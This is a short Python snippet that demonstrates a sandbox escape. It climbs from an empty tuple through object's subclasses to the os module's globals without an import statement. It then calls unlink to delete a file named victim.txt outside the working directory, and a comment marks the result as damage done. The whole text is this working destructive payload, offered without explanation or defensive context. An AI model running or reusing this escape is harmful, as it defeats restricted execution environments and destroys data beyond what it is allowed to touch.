# From an empty tuple to the functions of os, without an import.
# damage: deleted
for kind in ().__class__.__base__.__subclasses__():
    if kind.__name__ == "_wrap_close":
        kind.__init__.__globals__["unlink"]("../outside/victim.txt")
